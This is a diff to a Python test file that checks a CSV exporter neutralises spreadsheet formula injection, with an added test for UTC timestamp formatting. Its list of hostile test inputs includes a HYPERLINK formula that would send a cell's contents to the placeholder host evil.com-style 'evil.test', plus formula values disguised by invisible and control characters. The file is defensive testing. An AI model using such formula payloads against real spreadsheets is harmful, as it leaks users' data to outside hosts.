@@ -3,7 +3,8 @@
 import csv
 import io
 import json
-from datetime import date
+import unicodedata
+from datetime import UTC, date, datetime, timedelta, timezone
 from pathlib import Path
 
 import pytest
@@ -14,10 +15,11 @@ VECTORS = Path(__file__).resolve().parents[3] / "shared" / "hostile" / "export" 
 FORMULAS = [
     "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b\u200e =1",
     "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", '=HYPERLINK("http://evil.test/?"&A1,"x")', "-", "+49 30 1234", "@user",
-    "\u2060=1", "\u00ad=1", "\u180e=1", "\u3000=1", " \t=1",
+    "\u2060=1", "\u00ad=1", "\u180e=1", "\u3000=1", " \t=1", "\x0b=1+1", "\x0c=1+1", "\x85=1+1", "\u2028=1+1",
+    "\x01=1+1", "\x1b\x7f=1+1", "\u2003=1+1", "\u202f+1", "\ue000=1", "\ufff9@x", "\U000e0041=1",
+    "\x0b \x01\u2003\uff1d1",
 ]  # fmt: skip
 PLAIN = ["lamp", "a=1", "'=1", "(1)", "http://x.test/?a==1", "%0A=1", "", " lamp", "\u202elamp\u202c", "5 - 3", "ünï"]
-INVISIBLE = " \u00a0\ufeff\u200b\u200c\u200d\u2060\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u00ad\u3000\u180e\u061c"
 
 
 def shown(row: list[object]) -> list[str]:
@@ -27,7 +29,8 @@ def shown(row: list[object]) -> list[str]:
 
 
 def starts_formula(cell: str) -> bool:
-    return cell.lstrip(INVISIBLE)[:1] in set("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20") and bool(cell.lstrip(INVISIBLE))
+    visible = [one for one in cell if unicodedata.category(one)[0] not in "ZC"]
+    return visible[:1] != [] and visible[0] in "=+-@\uff1d\uff0b\uff0d\uff20"
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -44,6 +47,13 @@ def test_other_texts_are_unchanged(text: str) -> None:
 
 def test_numbers_and_dates_are_no_texts() -> None:
     assert csv_row([-5, 1.5, date(2026, 1, 2), True, None]) == "-5,1.5,2026-01-02,true,\r\n"
+
+
+def test_moments_are_in_utc_to_the_second() -> None:
+    moment = datetime(2026, 11, 27, 7, 46, 8, 482726, UTC)
+    assert csv_cell(moment) == "2026-11-27 07:46:08"
+    assert csv_cell(moment.astimezone(timezone(timedelta(hours=5, minutes=30)))) == "2026-11-27 07:46:08"
+    assert csv_cell(moment.replace(tzinfo=None)) == "2026-11-27 07:46:08"
 
 
 def test_a_cell_cannot_break_out() -> None:
